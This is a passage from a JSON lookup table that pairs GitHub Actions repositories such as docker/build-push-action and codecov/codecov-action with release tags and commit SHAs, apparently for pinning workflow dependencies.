199ab446dfa1589521f53f82278b37edff546f3b"],"azure/setup-kubectl":["v5.1.0 829323503d1be3d00ca8346e5391ca0b07a9ab0d","v4.0.1 776406bce94f63e41d621b960d78ee25c8b76ede","v3.2 901a10e89ea615cf61f57ac05cecdf23e7de06d8","v2.1 6025c840858f1afa584a5190a4426c338f59e503"],"azure/webapps-deploy":["v3.0.8 02a81bead70021f5284939794bcec79c271ab383","v2.2.19 5cfb776471c748b351e1ebf5770e208a54ace016","v1.0.1 5f33a44a61b8191419b11eb5a5759f8194f7f023"],"bazel-contrib/setup-bazel":["0.19.0 c5acdfb288317d0b5c0bbd7a396a3dc868bb0f86"],"benc-uk/workflow-dispatch":["v1.3.1 7a027648b88c2413826b6ddd6c76114894dc5ec4"],"bencherdev/bencher":["v0.6.12 8d75325c3bc59403a2186a056b472c4f49d42838"],"benchmark-action/github-action-benchmark":["v1.22.0 a60cea5bc7b49e15c1f58f411161f99e0df48372"],"bridgecrewio/checkov-action":["v12.3119.0 59b9d7edfcad5b87fbe3f473a9a134a721ad03f8","v11 fe7664780dbed7dd6a3806c533ec346409c83851","v10 856690c79fbb0457e734fa140d1cf4b1bdef4cd9","v9 f93e43550d669f41ed6fcfa423a3fcb7484a36cd"],"browser-actions/setup-chrome":["v2.2.0 48ad923757ca74d66703209fe939badbdf80f2f4","v1.7.3 c785b87e244131f27c9f19c1a33e2ead956ab7ce","v0.0.0 4fa655aad48f56911cad16db9252399a9e592848"],"bufbuild/buf-action":["v1.5.0 8c6a16e16f12ba20b6470afa9c2ba9b5ba8c97c3","v0.3.0 5ba95120ae70af2bc6c6e924b8746302fb8137c6"],"bufbuild/buf-setup-action":["v1.50.0 a47c93e0b1648d5651a065437926377d060baa99","v0.7.0 59e7de1964538e72aaa0ad402365298e7a1f183d"],"cachix/cachix-action":["v17 1eb2ef646ac0255473d23a5907ad7b04ce94065c","v16 3ba601ff5bbb07c7220846facfa2cd81eeee15a1","v15 ad2ddac53f961de1989924296a1f236fcfbaa4fc","v14 18cf96c7c98e048e10a83abd92116114cd8504be"],"cachix/install-nix-action":["v31.11.0 630ae543ea3a38a9a4166f03376c02c50f408342","v30 08dcb3a5e62fa31e2da3d490afc4176ef55ecd72","v29 9f70348d77d0422624097c4b7a75563948901306","v27 ba0dd844c9180cbf77aa72a116d6fbc515d0e87b"],"cargo-bins/cargo-binstall":["v1.22.0 75b4bfae1b2c753a6806bbce6e6cb89b602de33c","v0.23.1 62ca508e891aa801877f4e0e87d18a788fff6dee"],"changesets/action":["v2.1.1 8488615a623b1b9c987934bb89eae8af6a946ac1","v1.9.0 a45c4d594aa4e2c509dc14a9f2b3b67ba3780d0d"],"cirrus-actions/rebase":["1.8 b87d48154a87a85666003575337e27b8cd65f691"],"cloudflare/wrangler-action":["v4.0.0 ebbaa1584979971c8614a24965b4405ff95890e0","v3.15.0 9acf94ace14e7dc412b076f2c5c20b8ce93c79cd","2.0.0 4c10c1822abba527d820b29e6333e7f5dac2cabd","1.3.0 3424d15af26edad39d5276be3cc0cc9ffec22b55"],"codecov/codecov-action":["v5.5.2 671740ac38dd9b0130fbe1cec585b89eea48d3de","v4.6.0 b9fd7d16f6d7d1b5d2bec1a2887e65ceed900238","v3.1.6 ab904c41d6ece82784817410c45d8b8c02684457","v2.1.0 f32b3a3741e1053eb607407145bc9619351dc93b"],"codecov/test-results-action":["v1.2.1 0fa95f0e1eeaafde2c782583b36b28ad0d8c77d3"],"codespell-project/actions-codespell":["v2.2 8f01853be192eb0f849a5c7d721450e7a467c579","v1.0 22ff5a2e4b591290baf82d47c9feadac31c65441"],"codspeedhq/action":["v5.0.3 4296e51e7041e24dadb86d1d6e8b9320d223dbe8","v4.19.1 f22792bfac16f3e14eb9fbea76f4a48e9cc22b93","v3.8.1 76578c2a7ddd928664caa737f0e962e3085d4e7c","v2.4.5 9481de2550a3d73cdac24ddd54ee6b9ee31f7ec2"],"conda-incubator/setup-miniconda":["v4.0.1 8ee1f361103df19b6f8c8655fd3967a8ecb162d5","v3.3.0 fc2d68f6413eb2d87b895e92f8584b5b94a10167","v2.3.0 9f54435e0e72c53962ee863144e47a4b094bfd35","v1.7.0 f4c00b0ec69bdc87b1ab4972613558dd9f4f36f3"],"coverallsapp/github-action":["v2.3.8 8d6379e14d29928660c4ba802d8e85393440b329","v1.2.5 09b709cf6a16e30b0808ba050c7a6e8a5ef13f8d","v0.2.0 8a33dfd4596860328bb7981b62305c89c8fc4dc9"],"crate-ci/typos":["v1.48.0 bee27e3a4fd1ea2111cf90ab89cd076c870fce14","v0.4.0 3e66a99674a1a5f2d76910657abde5dcda2119fa"],"crazy-max/ghaction-github-pages":["v4.0.0 c05ee637ec73429400a359430db8e5629f3f2564","v3.2.0 5859b4ea7efe6b470a5b19c570460eae9323aefc","v2.7.0 59173cb633d9a3514f5f4552a6a3e62c6710355c","v1.5.3 c8d2878da7aca2e0e6ad9047f44876e2a5f73603"],"crazy-max/ghaction-github-runtime":["v4.0.0 04d248b84655b509d8c44dc1d6f990c879747487","v3.1.0 3cb05d89e1f492524af3d41a1c98c83bc3025124","v2.2.0 056b8ec6661ce03a987ab8643a0edc346ae63fe3","v1.1.0 83094fe91195fdf87fa647051ab34148d96d3f1b"],"crazy-max/ghaction-import-gpg":["v7.0.0 2dc316deee8e90f13e1a351ab510b4d5bc0c82cd","v6.3.0 e89d40939c28e39f97cf32126055eeae86ba74ec","v5.4.0 d6f3f49f3345e29369fe57596a3ca8f94c4d2ca7","v4.4.0 e00cb83a68c1158b29afc5217dd0582cada6d172"],"crazy-max/ghaction-setup-docker":["v4.1.0 370a7dad4b8ce8dbf00f9363e1652e5074dd6abe","v3.5.0 635d07c09dc2b52072362e9bb37e7e789767106d","v2.2.0 69b561f709cbd934060981d481ccfc316cfb77b7","v1.4.0 ce60bfdfe10feb1d455df54726f7e7fba469956d"],"crazy-max/ghaction-upx":["v4.0.0 c83f378efc804f828e988debb88ed6116feb2368","v3.2.0 db8cc9515a4a7ea1b312cb82fbeae6d716daf777","v2.4.0 e74668b8fe9dc0bb759619c23358a213ba7767f2","v1.5.0 745b8598ffbd6146459ad091b148fadcb0e87755"],"crowdin/github-action":["v2.17.0 c7af9bc98b01694653031fef2a0dc6c7888ce9bc","v1.20.4 30849777a3cba6ee9a09e24e195272b8287a0a5b"],"cygwin/cygwin-install-action":["v6.1 711d29f3da23c9f4a1798e369a6f01198c13b11a","v5 f61179d72284ceddc397ed07ddb444d82bf9e559","v4 006ad0b0946ca6d0a3ea2d4437677fa767392401","v3 f5e0f048310c425e84bc789f493a828c6dc80a25"],"cypress-io/github-action":["v7.4.3 09090944bd8aaa2a517cefb6e38bf1aae336b42b","v6.10.9 f790eee7a50d9505912f50c2095510be7de06aa7","v5.8.4 248bde77443c376edc45906ede03a1aba9da0462","v4.2.2 d79d2d530a66e641eb4a5f227e13bc985c60b964"],"dart-lang/setup-dart":["v1.7.2 65eb853c7ba17dde3be364c3d2858773e7144260","v0.5 e391a10474f61e6dd611ffe10e05c5f35b6434ad"],"davidanson/markdownlint-cli2-action":["v24.2.0 21c1be1b93ad9ed58fa840aacc3f279cde2a72ff","v23.2.0 ded1f9488f68a970bc66ea5619e13e9b52e601cd","v22.0.0 07035fd053f7be764496c0f8d8f9f41f98305101","v21.0.0 30a0e04f1870d58f8d717450cc6134995f993c63"],"dawidd6/action-download-artifact":["v21 b6e2e70617bc3265edd6dab6c906732b2f1ae151","v20 8305c0f1062bb0d184d09ef4493ecb9288447732","v19 8a338493df3d275e4a7a63bcff3b8fe97e51a927","v18 1f8785ff7a5130826f848e7f72725c85d241860f"],"denoland/setup-deno":["v2.0.4 667a34cdef165d8d2b2e98dde39547c9daac7282","v1.5.2 11b63cf76cfcafb4e43f97b6cad24d8e8438f62d"],"dependabot/fetch-metadata":["v3.1.0 25dd0e34f4fe68f24cc83900b1fe3fe149efef98","v2.5.0 21025c705c08248db411dc16f3619e6b5f9ea21a","v1.7.0 8348ea7f5d949b08c7f125a44b569c9626b05db3"],"depot/build-push-action":["v1.16.2 9785b135c3c76c33db102e45be96a25ab55cd507"],"depot/setup-action":["v1.7.2 91bc8495a33ebfc504ffc89e5674379ccf23c29c"],"dessant/lock-threads":["v6.0.2 89ae32b08ed1a541efecbab17912962a5e38981c","v5.0.1 1bf7ec25051fe7c00bdd17e6a7cf3d7bfb7dc771","v4.0.1 be8aa5be94131386884a6da4189effda9b14aa21","v3.0.0 e460dfeb36e731f3aeb214be6b0c9a9d9a67eda6"],"determinatesystems/nix-installer-action":["v22 ef8a148080ab6020fd15196c2084a2eea5ff2d25","v21 c5a866b6ab867e88becbed4467b93592bce69f8a","v20 786fff0690178f1234e4e1fe9b536e94f5433196","v19 90bb610b90bf290cad97484ba341453bd1cbefea"],"devcontainers/ci":["v0.3.1900000417 8bf61b26e9c3a98f69cb6ce2f88d24ff59b785c6"],"docker/bake-action":["v7.1.0 a66e1c87e2eca0503c343edf1d208c716d54b8a8","v6.10.0 5be5f02ff8819ecd3092ea6b2e6261c31774f2b4","v5.13.0 4a9a8d494466d37134e2bfca2d3a8de8fb2681ad","v4.7.0 aefd381cbaa93c62a1e8b02194ae420cc36269d2"],"docker/build-push-action":["v7.3.0 53b7df96c91f9c12dcc8a07bcb9ccacbed38856a","v6.19.2 10e90e3645eae34f1e60eeb005ba3a3d33f178e8","v5.4.0 ca052bb54ab0790a636c9b5f226502c73d547a25","v4.2.1 0a97817b6ade9f46837855d676c4cca3a2471fc9"],"docker/login-action":["v4.1.0 4907a6ddec9925e35a0a9e82d7399ccc52663121","v3.7.0 c94ce9fb468520275223c153574b00df6fe4bcc9","v2.2.0 465a07811f14bebb1938fbed4728c6a1ff8901fc","v1.14.1 dd4fa0671be5250ee6f50aedf4cb05514abda2c7"],"docker/metadata-action":["v6.2.0 dc802804100637a589fabce1cb79ff13a1411302","v5.10.0 c299e40c65443455700f0fdfc63efafe5b349051","v4.6.0 818d4b7b91585d195f67373fd9cb0332e31a7175","v3.8.0 b2391d37b4157fa4aa2e118d643f417910ff3242"],"docker/scout-action":["v1.22.0 7520205ff60037fdc436b40b6a1d1e55a839ec2d","v0.23.4 64ca6fb5e6ada64f5febd1a991b499900b29faf0"],"docker/setup-buildx-action":["v4.3.0 37fe631027851001ddb9b187196cc803df7f5f0e","v3.12.0 8d2750c68a42422c14e847fe6c8ac0403b4cbd6f","v2.10.0 885d1462b80bc1c1c7f0b00334ad271f09369c55","v1.7.0 f211e3e9ded2d9377c8cadc4489a4e38014bc4c9"],"docker/setup-docker-action":["v5.4.0 77e84dbf09b47d1e29270283c22f16145aa85ca1","v4.7.0 e43656e248c0bd0647d3f5c195d116aacf6fcaf4","v3.5.0 635d07c09dc2b52072362e9bb37e7e789767106d","v2.2.0 69b561f709cbd934060981d481ccfc316cfb77b7"],"docker/setup-qemu-action":["v4.2.0 96fe6ef7f33517b61c61be40b68a1882f3264fb8","v3.7.0 c7c53464625b32c7a7e944ae62b3e17d2b600130","v2.2.0 2b82ce82d56a2a04d2637cd93a637ae1b359c0a7","v1.2.0 27d0a4f181a40b142cce983c5393082c365d1480"],"dorny/paths-filter":["v4.0.2 7b450fff21473bca461d4b92ce414b9d0420d706","v3.0.3 d1c1ffe0248fe513906c8e24db8ea791d46f8590","v2.12.0 7267a8516b6f92bdb098633497bad573efdbf271","v1.1.0 1cbb925a174b3b91b9ba408bc912aaca905656c0"],"dorny/test-reporter":["v3.0.0 a43b3a5f7366b97d083190328d2c652e1a8b6aa2","v2.7.0 df6247429542221bc30d46a036ee47af1102c451","v1.9.1 31a54ee7ebcacc03a09ea97a7e5465a47b84aea5"],"dtolnay/rust-toolchain":["v1 e97e2d8cc328f1b50210efc529dca0028893a2d9"],"embarkstudios/cargo-deny-action":["v2.0.17 91bf2b620e09e18d6eb78b92e7861937469acedb","v1.6.3 3f4a782664881cf5725d0ffd23969fcce89fd868","v0.3.0 b1c5d5c65cb760fdaa88961f436ac60c46d6ba1f"],"endbug/add-and-commit":["v11.1.1 cc9c08ba6c8df3b93a8f2db63e89b98368ae2ae8","v10.0.0 290ea2c423ad77ca9c62ae0f5b224379612c0321","v9.1.4 a94899bca583c204427a224a7af87c02f9b325d5","v8.0.2 72e246094f1af94def5a07467cd789c503ae8be0"],"enricomi/publish-unit-test-result-action":["v2.24.0 d0a4676d0e0b938bc201470d88276b7c74c712b3","v1.40 b9f6c61d965bcaa18acc02d6daf706373a448f02"],"eps1lon/actions-label-merge-conflict":["v3.0.3 1df065ebe6e3310545d4f4c4e862e43bdca146f0","v2.1.0 fd1f295ee7443d13745804bc49fe158e240f6c6e","v1.4.0 e230e069b9c54661477b7cc8347a7aac8671d891"],"erlef/setup-beam":["v1.24.1 54075bcc5e249e4758d363f27d099f55d843f124"],"expo/expo-github-action":["9.0.0 eab7a230208c952974db8c3245cfd78402c7b385","8.2.1 c7b66a9c327a43a8fa7c0158e7f30d6040d2481e","7.2.1 d300b960e9f91a8c59b2aaca92e89ad70b0785ac","6.0.0 c3c02de017ef8cf6152daee160e8a47a2340a5e5"],"extractions/setup-just":["v2.0.0 dd310ad5a97d8e7b41793f8ef055398d51ad4de6","v1.6.0 69d82fb0233557aec017ef13706851d0694e0f1d"],"fjogeleit/http-request-action":["v2.0.1 f98bb26551cd1af7d3eb2674578a80754ece88db","v1.16.6 c0b95d02a088b47c1f2f4db04fd8af8bd19eee54"],"fkirc/skip-duplicate-actions":["v5.3.1 f75f66ce1886f00957d99748a42c724f4330bdcf","v4.0.0 9d116fa7e55f295019cfab7e3ab72b478bcf7fdd","v3.4.1 f75dd6564bb646f95277dc8c3b80612e46a4a1ea","v2.2.0 0c0fd7dfd27f1de7871e98791077b9ae5f1d8757"],"fossas/fossa-action":["v2.0.0 29693cc50323968e039056be419b32989fc5880c","v1.9.0 ff70fe9fe17cbd2040648f1c45e8ec4e4884dcf3"],"getsentry/action-release":["v3.7.0 ff07929a6537bac57790c3451cf4d364aca38528","v2.0.0 e3542deb6dd46200cca4bd79d4096d4bdb92e1b7","v1.11.0 a74facf8a080ecbdf1cb355f16743530d712abb7"],"getsentry/self-hosted":["26.8.0 73fe2f2747800873f0896aec283c45b6dcf34432","25.12.1 5c9794c9b1fda551f38515f85d56ec298371d060","24.12.1 d8f64c6e8e4e63b50367a5927c844b172ecbfb54","23.12.1 ed9a4d08224fbe9f74fff07080c03b5a60db7812"],"github/codeql-action":["v4.36.2 8aad20d150bbac5944a9f9d289da16a4b0d87c1e","v3.36.2 dd903d2e4f5405488e5ef1422510ee31c8b32357","v2.28.1 b8d3b6e8af63cde30bdc382c0bc28114f4346c88","v1.1.39 231aa2c8a89117b126725a0e11897209b7118144"],"github/gh-aw-actions":["v0.72.0 ff0525b685481744f490a0d362753d8001e4b39d"],"github/issue-labeler":["v3.4 c1b0f9f52a63158c4adc09425e858e87b32e9685","v2.6 de16e742018d174ccf61d287f6ed31eb48faa64f","v1.1 88549628259db2b6be651fc62ae6e4d2f49ac645"],"github/super-linter":["v7 b807e99ddd37e444d189cfd2c2ca1274d8ae8ef1","v6 4e51915f4a812abf59fed160bb14595c0a38a9e7","v5.0.0 45fc0d88288beee4701c62761281edfee85655d7","v4.10.2 45fc0d88288beee4701c62761281edfee85655d7"],"gitleaks/gitleaks-action":["v3.0.0 e0c47f4f8be36e29cdc102c57e68cb5cbf0e8d1e","v2.3.9 ff98106e4c7b2bc287b24eaf42907196329070c7","v1.6.0 518e4898c0cd1cc5d9aab6627a2eabd46e81d8da"],"go-task/setup-task":["v2.0.0 3be4020d41929789a01026e0e427a4321ce0ad44","v1.1.0 70f2430ad412f838533de8c0515c749ffb2b8bd3"],"golang/govulncheck-action":["v1.0.4 b625fbe08f3bccbe446d94fbf87fcc875a4f50ee","v0.2.0 a46a9b37e1aeb4ccad626d440f1d51246f6b0ba6"],"golangci/golangci-lint-action":["v9.3.0 ba0d7d2ec06a0ea1cb5fa41b2e4a3ab91d21278a","v8.0.0 4afd733a84b1f43292c63897423277bb7f4313a9","v7.0.1 9fae48acfc02a90574d7c304a1758ef9895495fa","v6.5.2 55c2c1448f86e01eaae002a5a3a9624417608d84"],"google-github-actions/auth":["v3.0.0 7c6bc770dae815cd3e89ee6cdf493a5fab2cc093","v2.1.13 c200f3691d83b41bf9bbd8638997a462592937ed","v1.3.0 3a3c4c57d294ef65efaaee4ff17b22fa88dd3c69","v0.9.0 09cecabe1f169596b81c2ef22b40faff87acc460"],"google-github-actions/deploy-cloudrun":["v3.0.1 2028e2d7d30a78c6910e0632e48dd561b064884d","v2.7.6 251330ba9a8a34bfbc1622895f42e1d53fd14522","v1.0.2 e62f655d5754bec48078a72edc015367b01ee97b","v0.11.0 902592cd57d30d0f72ae0f73bb91512ce3c72452"],"google-github-actions/get-gke-credentials":["v3.0.0 3da1e46a907576cefaa90c484278bb5b259dd395","v2.3.5 64bc7249bbcf78056bb92f14d3cedc2da193946c","v1.0.2 35ab0d2b2d48792c19f09325413bd185c8d44394","v0.9.0 7c62b4b6c70752aa072f2f0b47691ff2ac60444f"],"google-github-actions/get-secretmanager-secrets":["v3.0.0 bc9c54b29fdffb8a47776820a7d26e77b379d262","v2.2.5 2b5f97c5a4b9c105e64646762ad4fc3f5128e6f5","v1.0.1 4d6d3dfd94110800dda8d84109cb6da0f6a5919d","v0.6.0 bdbd22a6198303dd1c27ca96e4a133f2ae92503d"],"google-github-actions/release-please-action":["v4.1.1 e4dc86ba9405554aeba3c6bb2d169500e7d3b4ee","v3.7.13 db8f2c60ee802b3748b512940dde88eabd7b7e01","v2.35.0 00911586051618367fa9c19b161a0a146ac51970","v1.6.3 1c080853af420a4b36d5fcad36e06721bc433e0c"],"google-github-actions/run-gemini-cli":["v0.1.22 f77273f4c914e4bf38440cf36a0369cb64a37489"],"google-github-actions/setup-gcloud":["v3.0.1 aa5489c8933f4cc7a4f7d45035b3b1440c9c10db","v2.2.1 e427ad8a34f8676edf47cf7d7925499adf3eb74f","v1.1.1 e30db14379863a8c79331b04a9969f4c1e225e0b","v0.7.0 20c93dacc1d70ddbce76c63ab32c35595345bdd1"],"google-github-actions/upload-cloud-storage":["v3.0.0 6397bd7208e18d13ba2619ee21b9873edc94427a","v2.2.4 c0f6160ff80057923ff50e5e567695cea181ec23","v1.0.3 e95a15f226403ed658d3e65f40205649f342ba2c","v0.11.0 b3dfb31dbcca0c3fb0c02d5035279a85cbdc24b5"],"googleapis/release-please-action":["v4.1.4 d1a8f221d7723166f48a584aebba00ef3f6febec","v3.7.13 db8f2c60ee802b3748b512940dde88eabd7b7e01","v2.35.0 00911586051618367fa9c19b161a0a146ac51970","v1.6.3 1c080853af420a4b36d5fcad36e06721bc433e0c"],"goreleaser/goreleaser-action":["v7.2.3 f06c13b6b1a9625abc9e6e439d9c05a8f2190e94","v6.4.0 e435ccd777264be153ace6237001ef4d979d3a7a","v5.1.0 5742e2a039330cbb23ebf35f046f814d4c6ff811","v4.6.0 5fdedb94abba051217030cc86d4523cf3f02243d"],"graalvm/setup-graalvm":["v1.6.3 0def53c0fd8534bc13416c9469f5be45265824fd"],"gradle/actions":["v6.3.0 9c971963bec38e04b3d30dcc455b5382be2fdbfb","v5.0.2 0723195856401067f7a2779048b490ace7a47d7c","v4.4.4 748248ddd2a24f49513d8f472f81c3a07d4d50e1","v3.5.0 d9c87d481d55275bb5441eef3fe0e46805f9ef70"],"gradle/gradle-build-action":["v3.5.0 ac2d340dc04d9e1113182899e983b5400c17cda1","v2.12.0 a8f75513eafdebd8141bd1cd4e30fcd194af8dfa","v1.5.1 b3afdc78a7849557ab26e243ccf07548086da025"],"gradle/wrapper-validation-action":["v3.5.0 f9c9c575b8b21b6485636a91ffecd10e558c62f6","v2.1.3 b5418f5a58f5fd2eb486dd7efb368fe7be7eae45","v1.1.0 56b90f209b02bf6d1deae490e9ef18b21a389cd4"],"grafana/run-k6-action":["v1.4.0 de51a7390bdf0ac85a3bef493691bd71d4c7c158","v0.0.1 db82923b1a46b5a2740f0b7cfe2d06cc6e909f40"],"hadolint/hadolint-action":["v3.3.0 2332a7b74a6de0dda2e2221d575162eba76ba5e5","v2.1.0 f988afea3da57ee48710a9795b6bb677cc901183","v1.7.0 0bc6199b82f7c6bbd2d41b82d523294df01f8b8f"],"hashicorp/setup-packer":["v3.1.0 1aa358be5cf73883762b302a3a03abd66e75b232","v2.0.1 ecc5516821087666a672c0d280a0084ea6d9aafd","v0.2.0 2ef5cf325f2beace99a1742903eb52542765c08f"],"hashicorp/setup-terraform":["v4.0.1 dfe3c3f87815947d99a8997f908cb6525fc44e9e","v3.1.2 b9cd54a3c349d3f38e8881555d616ced269862dd","v2.0.3 633666f66e0061ca3b725c73b2ec20cd13a8fdd1","v1.4.0 ed3a0531877aca392eb870f440d9ae7aba83a6bd"],"hashicorp/vault-action":["v3.4.0 4c06c5ccf5c0761b6029f56cfb1dcf5565918a3b","v2.8.1 9c2d817b85b9fff56bcab21cb74b485aee9e9d73","v1.0.1 22e3f3e09e3baba4d6cc62823175d21fafe4e30a","v0.10.2 9878eba70ad6c6e21a01bd1e2debd3f3b7cbc46e"],"haskell-actions/setup":["v2.10.3 f9150cb1d140e9a9271700670baa38991e6fa25c"],"helm/chart-releaser-action":["v1.7.0 cae68fefc6b5f367a0275617c9f83181ba54714f"],"helm/chart-testing-action":["v2.8.0 6ec842c01de15ebb84c8627d2744a0c2f2755c9f","v1.1.0 a51c8703995f0c1b6666ab090e4553301aada66c"],"helm/kind-action":["v1.14.0 ef37e7f390d99f746eb8b610417061a60e82a6cc"],"hendrikmuhs/ccache-action":["v1.2.23 d62db5f07c26379fc4b4e0916f098a92573c3b03"],"hmarr/auto-approve-action":["v4.0.0 f0939ea97e9205ef24d872e76833fa908a770363","v3.2.1 44888193675f29a83e04faf4002fa8c0b537b1e4","v2.4.0 9ae347e9f84a25da76c915a406cb17cfece1716d","v1.0.0 1aa205c3bbfbf8727c368deeb1034099af26ade2"],"houseabsolute/actions-rust-cross":["v0.0.15 e021eb0bd0406694c4c3bd14cfce45df810dfaa5"],"ibiqlik/action-yamllint":["v3.1.1 2576378a8e339169678f9939646ee3ee325e845c","v2.0.0 76fdac38393593cc46d89860c3e9698d4fe6b1a4","v1.0.0 665205c3255fcf157ef8dc9a40d527fe025a4bc8","v0.0.2 26e96b30f8a67e5378be7812e5bd32a49b8d04ab"],"ilammy/msvc-dev-cmd":["v1.13.0 0b201ec74fa43914dc39ae48a89fd1d8cb592756"],"ilshidur/action-discord":["0.4.0 d2594079a10f1d6739ee50a2471f0ca57418b554"],"imjasonh/setup-crane":["v0.5 6da1ae018866400525525ce74ff892880c099987"],"imranismail/setup-kustomize":["v2.1.0 2ba527d4d055ab63514ba50a99456fc35684947f","v1.7.3 8747e0b5cf2aa311dce56dc5d8fa171e9804d7fa"],"jamesives/github-pages-deploy-action":["v4.6.8 881db5376404c5c8d621010bcbec0310b58d5e29","3.7.1 132898c54c57c7cc6b80eb3a89968de8fc283505","2.0.3 dc639e508697641bdc139cfe53bd30842cf691d0","1.1.3 561f84338b2fe39f743a851a65e42b137c3edb57"],"jasonetco/create-an-issue":["v2.9.2 1b14a70e4d8dc185e5cc76d3bec9eab20257b2c5","v1.2.0 306d0d8fece95b6492f5c74b8cb36e5fb5f9e1b5"],"jaxxstorm/action-install-gh-release":["v3.0.0 25e24d2d23ae098373794ef1d6faecb48ee52da8","v2.1.0 6096f2a2bbfee498ced520b6922ac2c06e990ed2","v1.14.0 cd6b2b78ad38bdd294341cda064ec0692b06215b"],"jdx/mise-action":["v4.2.5 3c2e0cf82a5b2e5249f0d3635a4d83d0ae861518","v3.6.3 5228313ee0372e111a38da051671ca30fc5a96db","v2.4.4 c37c93293d6b742fc901e1406b8f764f6fb19dac","v1.3.2 61c1bfbed63c70a82ff0ce3301bde41875b17844"],"jfrog/setup-jfrog-cli":["v5.1.0 deda456d982fc5e9a7a020b63eb0d2968aedd33e","v4.10.1 5a4fbe1e30dbb570cc62d2513421c4b9bc3c9959","v3.5.3 0f30b43d62ccad81fba40748d2c671c4665b2d27","v2.4.1 11ee3f9bb82595485cb55670e4f93885080e183b"],"jlumbroso/free-disk-space":["v1.3.1 54081f138730dfa15788a46383842cd2f914a1be"],"js-devtools/npm-publish":["v4.1.5 0fd2f4369c5d6bcfcde6091a7c527d810b9b5c3f","v3.1.1 19c28f1ef146469e409470805ea4279d47c3d35c","v2.2.2 fe72237be0920f7a0cafd6a966c9b929c9466e9b","v1.4.3 0f451a94170d1699fd50710966d48fb26194d939"],"julia-actions/cache":["v3.2.0 b7788abd52452d5bc033d69796e110d9906af4ab","v2.1.0 d10a6fd8f31b12404a54613ebad242900567f2b9","v1.5.2 dc1a3cdeacb521b0ca93cfc66143fcadb15a5bd0"],"julia-actions/julia-runtest":["v1.11.5 fc07e51ec99db23b29943e95406b5762501e2897","v0.1.0 b3ceb35c0a0a7d13a8b68650e11daa872fd196cd"],"julia-actions/setup-julia":["v3.0.2 fa02766e078afaaf09b14210362cee14137e6a32","v2.7.0 4c0cb0fce8556fdb04a90347310e5db8b1f98fb9","v1.9.6 ac0d62164df5a47de404f4e96ce86a1a28a28d56","v0.3.0 e23d9abea33409952e6fb9b839394c5070102984"],"jwlawson/actions-setup-cmake":["v2.2.0 0d6a7d60b009d01c9e7523be22153ff8f19460d3","v1.14.2 d06b37b47cfd043ec794ffa3e40e0b6b5858a7ec"],"kentaro-m/auto-assign-action":["v2.0.2 0a2c53d3721e4c5cfcce6afd4014aecc337979f6","v1.2.6 ed73f90568ce37d22dbbd1a73983738fae329f53"],"ko-build/setup-ko":["v0.10 61b4d1d396f5b2e7d6bb6fefdce3dc38d1a13445"],"korthout/backport-action":["v4.6.0 2e830a1d0b8269505846ddd407a70876913ad1f8","v3.4.1 d07416681cab29bf2661702f925f020aaa962997","v2.5.0 ef20d86abccbac3ee3a73cb2efbdc06344c390e5","v1.4.0 bd68141f079bd036e45ea8149bc9d174d5a04703"],"lewagon/wait-on-check-action":["v1.9.0 2271c86c146b96545b4e871b855e10ffa6f50773","v0.2 bafe56a6863672c681c3cf671f5e10b20abf2eaa"],"louisbrunner/checks-action":["v3.1.0 937cbbcde3259005b50746dc91cde29098aac2ff","v2.0.0 6b626ffbad7cc56fd58627f774b9067e6118af23","v1.6.2 c6dbaea4f9c79ccfe67c038acddaf713518b255d","v0.1.0 40a0ea596ee3fe929f9cdcdff1641a4490daafa5"],"ludeeus/action-shellcheck":["2.0.0 00cae500b08a931fb5698e11e79bfbd38e612a38","1.1.0 94e0aab03ca135d11a35e5bfc14e6746dc56e7e9","0.5.0 c489c81f79527f818be72b97b918b06e75eaee6d"],"lukka/get-cmake":["v4.4.2 fffaaafeea488556c2c12dad60690008bc1caacb","v3.31.6 56d043d188c3612951d8755da8f4b709ec951ad6","v2.3 630703f2ac458e13f97d11857b85290e456dc317","v0.2 adb2b87948a3f63e347faf06de9b974a6cc58145"],"lukka/run-vcpkg":["v11.6 b1a0dd252f06b9e25b3c022a9a03bd7a427fb6a2","v10.7 97a66cd144358612fab189bf2836619f392ef083","v7.6 8a5116de2b552d6fc8894e9774aacaf2e5db4823","v6.3 205a4bde2b6ddf941a102fb50320ea1aa9338233"],"lycheeverse/lychee-action":["v2.8.0 8646ba30535128ac92d33dfc9133794bfdd9b411","v1.10.0 2b973e86fc7b1f6b36a93795fe2c9c6ae1118621"],"mad9000/actions-find-and-replace-string":["5 bce4d50390d08b67e1822bd72fb54b3cf11b0ce9","4 c49c77493ba3b0c2330917c4b38b7c144a91d8e0","3 c02b7ea00aa28aa90986ef575a0f817e14c5f466","2 bf97a127285f67d542d3f06145424c64803ae81a"],"mamba-org/setup-micromamba":["v3.0.0 d7c9bd84e824b79d2af72a2d4196c7f4300d3476","v2.0.7 add3a49764cedee8ee24e82dfde87f5bc2914462","v1.11.0 4b9113af4fba0e9e1124b252dd6497a419e7396d"],"marocchino/sticky-pull-request-comment":["v3.0.5 5770ad5eb8f42dd2c4f34da00c94c5381e49af88","v2.9.4 773744901bac0e8cbb5a0dc842800d45e9b2b405","v1.6.0 6804b5ad49d19c10c9ae7cf5057352f7ff333f31"],"marvinpinto/action-automatic-releases":["v1.2.1 919008cf3f741b179569b7a6fb4d8860689ab7f0","v0.3.0 3e115498fff3ff82ccbd116e9e7b12e24354aece"],"mathieudutour/github-tag-action":["v6.2 a22cf08638b34d5badda920f9daf6e72c477b07b","v5.6 4c5d8c555a7cc4dca5e65d90b67dcddbb52ef77e","v4.6 bcb832838e1612ff92089d914bccc0fd39458223","v3.1 6a45ad83936d6f6f2f7ee4e0fd3e5769b89461fe"],"maxim-lobanov/setup-xcode":["v1.6.0 60606e260d2fc5762a71e64e74b2174e8ea3c8bd"],"medyagh/setup-minikube":["v0.0.21 e9e035a86bbc3caea26a450bd4dbf9d0c453682e"],"microsoft/setup-msbuild":["v3.0.0 30375c66a4eea26614e0d39710365f22f8b0af57","v2.0.0 6fb02220983dee41ce7ae257b6f4d8f9bf5ed4ce","v1.3.3 ede762b26a2de8d110bb5a3db4d7e0e080c0e917"],"mikefarah/yq":["v4.53.6 c14f446382944492701b16c1ddb48bb9dbe683e3","3.4.1 6afc2e918934a5df90a14cd09fc122972fa8ff81","v2.4.1 b8b2c9de6189471c0cdbd459b5b0b49a57844bd4","v1.15.0 a4f124f24fec54eecc0b186c778dfd8baaf85861"],"mikepenz/action-junit-report":["v6.4.2 d9f48fc87bc235f7e214acf696ca5abc0a986f16","v5.6.2 3585e9575db828022551b4231f165eb59a0e74e3","v4.3.1 db71d41eb79864e25ab0337e395c352e84523afe","v3.8.0 150e2f992e4fad1379da2056d1d1c279f520e058"],"mikepenz/release-changelog-builder-action":["v6.2.0 2cb9befdbc05f65b8354cc9873cd506509bd0782","v5.4.1 